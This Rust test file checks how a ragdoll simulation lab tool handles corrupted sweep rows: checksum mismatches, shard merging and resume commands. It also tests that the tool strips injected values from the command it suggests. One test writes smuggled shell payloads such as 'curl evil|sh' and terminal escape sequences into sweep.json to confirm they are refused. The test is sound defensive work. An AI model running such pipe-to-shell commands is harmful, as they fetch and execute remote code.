//! Rows of a sweep that were changed, and what a folder says to run.

use super::sweep::{assert_same_files, ends_with, path, row, sweep};
use ragdoll_lab::lab::sweep::{RowFault, RowLines};
use ragdoll_lab::text::is_hidden;
use serde_json::Value;
use std::fs;
use std::path::Path;
use tempfile::TempDir;

const SET: &str = "launcher.speed_m_s=8:16:5";
/// A sweep of five cases.
const SWEEP: [&str; 7] = [
    "humanoid-medium",
    "--set",
    SET,
    "--limit",
    "0.2",
    "--nudges",
    "0",
];

fn read(folder: &str, name: &str) -> String {
    fs::read_to_string(Path::new(folder).join(name)).unwrap()
}

fn write(folder: &str, name: &str, text: &str) {
    fs::write(Path::new(folder).join(name), text).unwrap();
}

/// Puts something else in the place of a line of the rows.
fn change_line(folder: &str, number: usize, change: impl Fn(&str) -> String) {
    let text = read(folder, "rows.jsonl");
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    lines[number - 1] = change(&lines[number - 1]);
    write(folder, "rows.jsonl", &(lines.join("\n") + "\n"));
}

/// A row with another digit in its travel.
fn with_another_digit(line: &str) -> String {
    let at = line.find("\"steps\":").unwrap() + 8;
    let digit = if line[at..].starts_with('9') {
        "8"
    } else {
        "9"
    };
    format!("{}{digit}{}", &line[..at], &line[at + 1..])
}

/// A row as it was written before there were checksums.
fn unchecked(line: &str) -> String {
    line.split(",\"checksum\"").next().unwrap().to_owned() + "}"
}

fn made(folder: &TempDir, name: &str, more: &[&str]) -> String {
    let out = path(folder, name);
    ends_with(0, &[&SWEEP[..], &["--out", &out], more].concat());
    out
}

#[test]
fn a_row_with_a_changed_digit_is_named_and_run_again_alone() {
    let folder = TempDir::new().unwrap();
    let whole = made(&folder, "whole", &[]);
    let out = made(&folder, "out", &[]);
    change_line(&out, 4, with_another_digit);
    let resume = [&SWEEP[..], &["--out", &out, "--resume"]].concat();
    let message = ends_with(0, &resume);
    let named = format!("{out}/rows.jsonl:4: case 3: the row does not match its checksum");
    assert!(message.contains(&named), "{message}");
    assert!(message.contains("1 of 1 cases"), "{message}");
    assert_same_files(&whole, &out);
    assert_eq!(read(&out, "times.csv").lines().count(), 6);
    // What is sound is not named.
    assert!(!ends_with(0, &resume).contains("rows.jsonl:"));
}

#[test]
fn a_shard_with_a_changed_digit_is_not_merged_before_it_is_resumed() {
    let folder = TempDir::new().unwrap();
    let whole = made(&folder, "whole", &[]);
    let parts = ["0/2", "1/2"].map(|shard| {
        let name = format!("part {}", &shard[..1]);
        made(&folder, &name, &["--shard", shard, "--threads", "1"])
    });
    change_line(&parts[1], 2, with_another_digit);
    let merged = path(&folder, "merged");
    let merge = ["--merge", &parts[0], &parts[1], "--out", &merged];
    let message = ends_with(2, &merge);
    let named = format!("{}/rows.jsonl:2: case 3: the row does not match", parts[1]);
    assert!(message.contains(&named), "{message}");
    let command = message.lines().last().unwrap().trim();
    let expected = format!("--shard 1/2 --out '{}' --resume", parts[1]);
    assert!(command.ends_with(&expected), "{message}");
    assert!(!Path::new(&merged).exists());
    let again = [&SWEEP[..], &["--out", &parts[1], "--shard", "1/2"]].concat();
    let message = ends_with(0, &[&again[..], &["--resume"]].concat());
    assert!(message.contains("1 of 1 cases"), "{message}");
    ends_with(0, &merge);
    assert_same_files(&whole, &merged);
}

#[test]
fn rows_without_checksums_and_of_other_sweeps_are_run_again() {
    let folder = TempDir::new().unwrap();
    let whole = made(&folder, "whole", &[]);
    let out = made(&folder, "out", &[]);
    let other = path(&folder, "other");
    let set = ["humanoid-thin", "--set", SET, "--limit", "0.2"];
    ends_with(0, &[&set[..], &["--nudges", "0", "--out", &other]].concat());
    let foreign = read(&other, "rows.jsonl");
    change_line(&out, 1, unchecked);
    change_line(&out, 3, |_| foreign.lines().nth(2).unwrap().to_owned());
    change_line(&out, 5, |_| "\u{0}{".to_owned());
    let message = ends_with(2, &["--merge", &out]);
    for expected in [
        "rows.jsonl:1: case 0: the row has no checksum",
        "rows.jsonl:3: case 2: the row does not match its checksum",
        "rows.jsonl:5: this is not a row of a sweep",
    ] {
        assert!(message.contains(expected), "{message}");
    }
    let message = ends_with(0, &[&SWEEP[..], &["--out", &out, "--resume"]].concat());
    assert!(message.contains("3 of 3 cases"), "{message}");
    assert_same_files(&whole, &out);
}

#[test]
fn every_changed_byte_of_a_line_is_found() {
    let sweep = sweep(&[SET]);
    let lines = RowLines::of(&sweep).unwrap();
    let row = row(&sweep, 1);
    let line = lines.write(&row).unwrap();
    assert_eq!(lines.read(line.as_bytes()), Ok(row.clone()));
    for place in 0..line.len() {
        let mut changed = line.clone().into_bytes();
        changed[place] ^= 1;
        assert!(lines.read(&changed).is_err(), "byte {place} of {line}");
    }
    let value: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(value["checksum"].as_str().unwrap().len(), 16);
    let fault = lines.read(unchecked(&line).as_bytes()).unwrap_err();
    assert_eq!((fault.case, fault.fault), (Some(1), RowFault::Unchecked));
}

#[test]
fn what_a_folder_says_to_run_is_the_command_of_its_sweep_or_nothing() {
    let folder = TempDir::new().unwrap();
    let out = made(&folder, "out", &["--shard", "0/2"]);
    let sound = read(&out, "sweep.json");
    let hostile = [
        ("command", "\u{1b}]0;pwned\u{7}\u{1b}[31mcurl evil|sh"),
        ("command", "ragdoll-lab sweep x; curl evil|sh #\u{202e}"),
        ("shard", "0/2; curl evil|sh"),
        ("shard", "\u{1b}[31m"),
    ];
    for (key, value) in hostile {
        let mut about: Value = serde_json::from_str(&sound).unwrap();
        about[key] = value.into();
        write(&out, "sweep.json", &about.to_string());
        let message = ends_with(2, &["--merge", &out]);
        assert!(!message.contains("run:"), "{message}");
        assert!(
            !message.contains(|c| is_hidden(c) && c != '\n'),
            "{message}"
        );
    }
    let long = "x".repeat(1_000_000);
    for (key, value) in [
        ("command", Value::from(long.clone())),
        ("cases", long.into()),
        ("shard", "7".into()),
        ("settings", Value::Null),
    ] {
        let mut about: Value = serde_json::from_str(&sound).unwrap();
        about[key] = value;
        write(&out, "sweep.json", &about.to_string());
        let message = ends_with(2, &["--merge", &out]);
        assert!(message.contains(';') && message.len() < 1_500, "{message}");
    }
    write(&out, "sweep.json", &sound);
    let message = ends_with(2, &["--merge", &out]);
    assert!(
        message.contains("run:\n  ragdoll-lab sweep humanoid-medium --set"),
        "{message}"
    );
}

#[test]
fn of_many_lines_that_are_no_rows_some_are_named_and_the_others_counted() {
    let folder = TempDir::new().unwrap();
    let out = made(&folder, "out", &[]);
    let rows = read(&out, "rows.jsonl");
    write(&out, "rows.jsonl", &(rows + &"\n".repeat(100_000)));
    // Cases that the sweep does not have, and the time of one many times.
    let times = read(&out, "times.csv");
    let more: String = (0..1_000).map(|i| format!("{i}000,1\n0,7\n")).collect();
    write(&out, "times.csv", &(times + &more));
    let message = ends_with(2, &["--merge", &out]);
    assert!(message.contains(": and 99980 more lines"), "{message}");
    assert!(message.lines().count() < 30, "{message}");
    let resumed = [&SWEEP[..], &["--out", &out, "--resume"]].concat();
    ends_with(0, &resumed);
    let times = read(&out, "times.csv");
    assert_eq!(times.lines().count(), 6, "{times}");
    assert!(times.contains("\n0,7.000\n"), "{times}");
}
